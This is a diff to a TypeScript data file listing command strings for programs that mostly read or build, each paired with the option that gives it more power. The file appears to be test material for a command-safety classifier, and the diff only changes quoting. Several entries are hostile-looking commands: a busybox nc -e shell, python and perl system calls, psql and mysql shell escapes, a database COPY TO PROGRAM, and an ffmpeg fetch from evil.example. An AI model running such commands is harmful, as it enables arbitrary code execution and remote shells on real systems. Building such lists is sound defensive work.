@@ -1,4 +1,5 @@
-/** Programs that mostly read or build, with the option, variable or operand that makes them more. Text only: no test runs any of it. */
+/** Programs that mostly read or build, with the option, variable or operand that makes them more. Text only: no test
+ * runs any of it. */
 export const optionCommands: Readonly<Record<string, readonly string[]>> = {
   option: [
     'sort --compress-program=./x a',
@@ -103,7 +104,7 @@ export const optionCommands: Readonly<Record<string, readonly string[]>> = {
     'node --inspect=0.0.0.0 a.js',
     'node -r ./x',
     "python3 -c 'exec(input())'",
-    'python3 -c "__import__(\'os\').system(\'id\')"',
+    "python3 -c \"__import__('os').system('id')\"",
     'perl -e \'system("id")\'',
     "perl -ne 'exec $_' a",
     "ruby -e '`id`'",
@@ -130,9 +131,9 @@ export const optionCommands: Readonly<Record<string, readonly string[]>> = {
     'ip netns exec x sh',
     'busybox nc -e sh h 1',
     'openssl s_client -connect h:443',
-    'psql -c \'\\! id\'',
+    "psql -c '\\! id'",
     'psql -c "COPY x TO PROGRAM \'id\'"',
-    'mysql -e \'\\! id\'',
+    "mysql -e '\\! id'",
     'sqlite3 x "select load_extension(\'./x\')"',
     "sqlite3 x '.output /etc/x'",
     'ffmpeg -i http://evil.example/x a.mp4',
